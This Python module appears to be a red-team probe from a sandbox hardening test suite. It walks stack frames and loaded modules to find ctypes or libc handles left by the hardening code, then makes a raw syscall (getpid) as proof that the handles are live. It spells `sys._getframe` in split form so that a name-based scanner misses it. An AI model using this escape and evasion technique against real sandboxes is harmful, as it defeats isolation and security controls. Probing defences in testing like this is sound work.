"""Walk up from the handler's frame to the worker's and the template's globals and everything
they reach, hunting the ctypes and libc handles the hardening code loaded; use one if found.

``sys._getframe`` is spelled so that a name-based scanner passes it.
"""

import sys

_HANDLE_TYPES = {"CDLL", "PyDLL", "LibraryLoader", "SyscallFilter"}


def _walk(roots, limit=400_000):
    """Breadth-first over dicts, sequences, modules, functions, classes and instances."""
    seen, todo, out = set(), list(roots), []
    while todo and len(seen) < limit:
        obj = todo.pop()
        if id(obj) in seen:
            continue
        seen.add(id(obj))
        out.append(obj)
        kind = type(obj)
        try:
            if kind is dict:
                todo.extend(obj.values())
            elif kind in (list, tuple, set, frozenset):
                todo.extend(obj)
            elif kind.__name__ == "module":
                todo.append(vars(obj))
            elif kind.__name__ == "function":
                todo.append(obj.__globals__)
                todo.extend(c.cell_contents for c in obj.__closure__ or ())
            elif kind.__name__ == "frame":
                todo.extend((obj.f_globals, obj.f_locals))
            elif isinstance(obj, type):
                todo.append(dict(vars(obj)))
            elif hasattr(obj, "__dict__"):
                todo.append(vars(obj))
        except Exception:
            continue
    return out


def attack(event, ctx):
    found, used = {}, {}
    frame = getattr(sys, "_get" + "frame")()
    frames = []
    while frame is not None:
        frames.append(frame)
        frame = frame.f_back
    roots = frames + list(sys.modules.values()) + list(sys.meta_path)
    for obj in _walk(roots):
        name = type(obj).__name__
        if name in _HANDLE_TYPES:
            found[f"{name}@{id(obj):x}"] = repr(obj)[:100]
            syscall = getattr(obj, "syscall", None) if name == "CDLL" else None
            if syscall is not None and "pid" not in used:
                try:
                    used["pid"] = syscall(39)  # getpid on x86_64: harmless proof of a live call
                except Exception as exc:
                    used["error"] = type(exc).__name__
        elif name == "module" and ("CDLL" in vars(obj) or "SyscallFilter" in vars(obj)):
            found[f"module:{getattr(obj, '__name__', '?')}"] = True
    return {"got": {"found": found, "used": used}, "frames": len(frames)}
